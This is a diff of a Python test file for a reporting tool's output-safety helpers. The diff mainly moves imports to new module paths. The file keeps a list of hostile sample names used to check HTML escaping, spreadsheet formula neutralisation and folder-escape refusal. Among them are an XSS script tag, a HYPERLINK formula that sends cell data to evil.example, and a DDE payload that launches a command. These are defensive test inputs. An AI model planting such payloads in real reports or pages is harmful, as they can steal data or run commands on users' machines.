@@ -1,6 +1,6 @@
 """Output safety: names are text in every output, and nothing is written outside the chosen folder.
 
-- ``quota.safety``: ``escape_html``, ``safe_cell`` (OWASP formula-injection rule), ``inside`` and
+- ``quota.report.safety``: ``escape_html``, ``safe_cell`` (OWASP formula-injection rule), ``inside`` and
   ``safe_component``; the report's own copies of the two text rules (``quota.report.escape``) agree.
 - ``write_run`` refuses a file name that would leave the run folder, before writing anything.
 - Acceptance 5: projects named ``<script>alert(1)</script>`` and ``=HYPERLINK(...)`` (and ids such as
@@ -17,10 +17,10 @@ import pytest
 from builder import county, project, write_scenario
 from click.testing import CliRunner
 
-from quota.cli import cli
+from quota.commands.cli import cli
 from quota.errors import QuotaError
-from quota.safety import FORMULA_START, escape_html, inside, safe_cell, safe_component
-from quota.write import write_run
+from quota.report.safety import FORMULA_START, escape_html, inside, safe_cell, safe_component
+from quota.report.write import write_run
 
 HOSTILE = ["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "=cmd|' /C calc'!A0", "'quoted", "a\"b'c&d<e>f", "普通名称", "", "1-2", " =1+1"]
